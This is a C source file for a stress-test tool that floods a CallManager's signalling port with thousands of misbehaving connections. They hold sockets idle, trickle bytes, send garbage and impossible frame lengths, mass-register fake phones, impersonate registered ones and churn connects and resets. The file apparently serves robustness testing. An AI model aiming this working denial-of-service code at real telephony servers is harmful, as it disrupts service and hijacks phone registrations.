/* A bad neighbour: thousands of connections to a CallManager's port from a few addresses, each with
 * a vice of its own, for some seconds. What the server ends is opened again, as fast as it can be.
 *
 *     hostile SERVER-ADDRESS PORT CONNECTIONS SECONDS FIRST-SOURCE SOURCES SEED [VICE]
 *
 * The sources are local addresses that count up. Prints one line of what it did; status 0 when it
 * could attack at all. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PACE     64   /* connections opened in one go, before the others are served */
#define REST_US  2000 /* between two sweeps over all of them */
#define FLOOD    4096
#define NAME_LEN 16

enum vice {
	IDLE,          /* says nothing */
	HALF,          /* half a frame, and then nothing */
	SLOW,          /* a byte now and then */
	GARBAGE,       /* random bytes */
	LIES,          /* lengths that cannot be */
	KEEPALIVES,    /* as many as the socket takes, answers read */
	DEAF,          /* the same, answers never read */
	REGISTERS,     /* a new name with each */
	IMPOSTOR,      /* the name of a phone that is registered */
	OFF_HOOK,      /* keys of a phone that never registered */
	CONNECT_CLOSE, /* in order, again and again */
	CONNECT_RESET, /* by reset */
	VICES,
};
static const char *const vice_names[VICES] = {
    "idle", "half",      "slow",     "garbage",  "lies",          "keepalives",
    "deaf", "registers", "impostor", "off-hook", "connect-close", "connect-reset"};

struct neighbour {
	int fd;
	enum vice vice;
	unsigned sweep; /* of its last byte */
	size_t offset;  /* into the flood: a frame may be taken in pieces */
};

static struct sockaddr_in server;
static uint32_t first_source;
static unsigned sources;
static uint64_t seed;
static unsigned long long attempts, refused, ended, sent;
static uint8_t keepalives[FLOOD], keys[FLOOD];

static uint64_t next_random(void)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return seed;
}

static void put32(uint8_t *at, uint32_t value)
{
	for (unsigned i = 0; i < 4; i++)
		at[i] = (uint8_t)(value >> (8 * i));
}

static void frame_head(uint8_t *at, uint32_t length, uint32_t id)
{
	put32(at, length);
	put32(at + 4, 0);
	put32(at + 8, id);
}

static void make_floods(void)
{
	memset(keepalives, 0, sizeof keepalives);
	memset(keys, 0, sizeof keys);
	for (size_t at = 0; at + 12 <= sizeof keepalives; at += 12)
		frame_head(keepalives + at, 4, 0);
	for (size_t at = 0; at + 20 <= sizeof keys; at += 20)
		frame_head(keys + at, 12, at % 40 == 0 ? 6 : 3);
}

static double seconds(void)
{
	struct timespec t;
	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void drop(struct neighbour *n, bool by_reset)
{
	struct linger hard = {.l_onoff = 1};

	if (n->fd < 0)
		return;
	if (by_reset)
		(void)setsockopt(n->fd, SOL_SOCKET, SO_LINGER, &hard, sizeof hard);
	(void)close(n->fd);
	n->fd = -1;
}

static void come(struct neighbour *n, unsigned number)
{
	struct sockaddr_in own = {.sin_family = AF_INET};
	int one = 1;

	own.sin_addr.s_addr = htonl(first_source + number % sources);
	n->offset = 0;
	n->sweep = 0;
	n->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (n->fd < 0)
		return;
	(void)setsockopt(n->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
	attempts++;
	if (bind(n->fd, (const struct sockaddr *)&own, sizeof own) != 0 ||
	    (connect(n->fd, (const struct sockaddr *)&server, sizeof server) != 0 &&
	     errno != EINPROGRESS)) {
		refused++;
		drop(n, true);
	}
}

/* false: the server has ended it. */
static bool put(struct neighbour *n, const void *bytes, size_t len)
{
	ssize_t done = send(n->fd, bytes, len, MSG_NOSIGNAL | MSG_DONTWAIT);

	if (done > 0)
		sent += (unsigned long long)done;
	n->offset = done > 0 ? n->offset + (size_t)done : n->offset;
	return done >= 0 || errno == EAGAIN || errno == ENOTCONN || errno == EINPROGRESS;
}

static bool flood(struct neighbour *n, const uint8_t *bytes, size_t frame)
{
	size_t whole = FLOOD / frame * frame;
	size_t from = n->offset % whole;

	return put(n, bytes + from, whole - from);
}

static bool enrol(struct neighbour *n, const char *name)
{
	uint8_t bytes[12 + 44] = {0};

	frame_head(bytes, sizeof bytes - 8, 1);
	memcpy(bytes + 12, name, NAME_LEN - 1);
	put32(bytes + 40, 7);
	bytes[52] = 11;
	return put(n, bytes, sizeof bytes);
}

static bool lie(struct neighbour *n)
{
	static const uint32_t lengths[] = {0,          1,          3,          2001,      4097,
					   0x7fffffff, 0x80000000, 0xfffffff8, 0xffffffff};
	uint8_t bytes[64] = {0};

	frame_head(bytes, lengths[next_random() % (sizeof lengths / sizeof *lengths)],
		   (uint32_t)(next_random() % 0x160));
	return put(n, bytes, sizeof bytes);
}

static bool deaf(enum vice vice)
{
	return vice == DEAF;
}

/* One turn. false: gone, or to be. */
static bool turn(struct neighbour *n, unsigned sweep)
{
	uint8_t bytes[FLOOD];
	char name[NAME_LEN + 1];

	if (!deaf(n->vice)) {
		ssize_t got = recv(n->fd, bytes, sizeof bytes, MSG_DONTWAIT);
		if (got == 0 || (got < 0 && errno != EAGAIN && errno != ENOTCONN))
			return false;
	}
	switch (n->vice) {
	case IDLE:
		return true;
	case HALF:
		return n->offset > 0 || put(n, keepalives, 7);
	case SLOW:
		return (sweep + (unsigned)n->fd) % 256 != 0 ||
		       put(n, keepalives + n->offset % 12, 1);
	case GARBAGE:
		for (size_t i = 0; i < 64; i++)
			bytes[i] = (uint8_t)next_random();
		return put(n, bytes, 64);
	case LIES:
		return lie(n);
	case KEEPALIVES:
	case DEAF:
		return flood(n, keepalives, 12);
	case REGISTERS:
		(void)snprintf(name, sizeof name, "SEP%012llX",
			       (unsigned long long)(next_random() & 0xffffffffffffU));
		return enrol(n, name);
	case IMPOSTOR:
		(void)snprintf(name, sizeof name, "SEP001BD41%05llX",
			       (unsigned long long)(next_random() % 20));
		return n->offset > 0 || enrol(n, name);
	case OFF_HOOK:
		return flood(n, keys, 20);
	case CONNECT_CLOSE:
	case CONNECT_RESET:
	case VICES:
		break;
	}
	return (sweep + (unsigned)n->fd) % 8 != 0;
}

static void attack(struct neighbour *all, unsigned count, double until)
{
	const struct timespec rest = {.tv_nsec = REST_US * 1000L};
	unsigned first = 0; /* everybody's turn to come */

	for (unsigned sweep = 1; seconds() < until; sweep++) {
		unsigned opened = 0;
		unsigned last = first;
		for (unsigned k = 0; k < count; k++) {
			unsigned i = (first + k) % count;
			struct neighbour *n = &all[i];
			if (n->fd < 0 && opened < PACE) {
				opened++;
				last = i;
				come(n, i);
			} else if (n->fd >= 0 && !turn(n, sweep)) {
				ended += n->vice < CONNECT_CLOSE;
				drop(n, n->vice == CONNECT_RESET);
			}
		}
		first = (last + 1) % count;
		(void)nanosleep(&rest, NULL);
	}
}

int main(int argc, char **argv)
{
	struct rlimit limit;
	unsigned open = 0;

	if (argc < 8) {
		(void)fprintf(stderr, "usage: hostile SERVER PORT CONNECTIONS SECONDS FIRST-SOURCE "
				      "SOURCES SEED [VICE]\n");
		return 2;
	}
	unsigned count = (unsigned)strtoul(argv[3], NULL, 10);
	server.sin_family = AF_INET;
	server.sin_port = htons((uint16_t)strtoul(argv[2], NULL, 10));
	(void)inet_pton(AF_INET, argv[1], &server.sin_addr);
	(void)inet_pton(AF_INET, argv[5], &first_source);
	first_source = ntohl(first_source);
	sources = (unsigned)strtoul(argv[6], NULL, 10);
	seed = strtoull(argv[7], NULL, 10) * 2654435761U + 1;
	if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
		limit.rlim_cur = limit.rlim_max;
		(void)setrlimit(RLIMIT_NOFILE, &limit);
	}
	if (count == 0 || sources == 0)
		return 2;
	struct neighbour *all = calloc(count, sizeof *all);
	if (all == NULL)
		return 2;
	make_floods();
	for (unsigned i = 0; i < count; i++) {
		all[i].fd = -1;
		all[i].vice = (enum vice)(i % VICES);
		for (unsigned v = 0; argc > 8 && v < VICES; v++) {
			if (strcmp(argv[8], vice_names[v]) == 0)
				all[i].vice = (enum vice)v;
		}
	}
	attack(all, count, seconds() + strtod(argv[4], NULL));
	for (unsigned i = 0; i < count; i++)
		open += all[i].fd >= 0;
	(void)printf(
	    "%llu attempts from %u addresses, %llu ended by the server, %u open at the end, "
	    "%llu bytes said, seed %s\n",
	    attempts, sources, ended, open, sent, argv[7]);
	free(all);
	return attempts > refused ? 0 : 1;
}
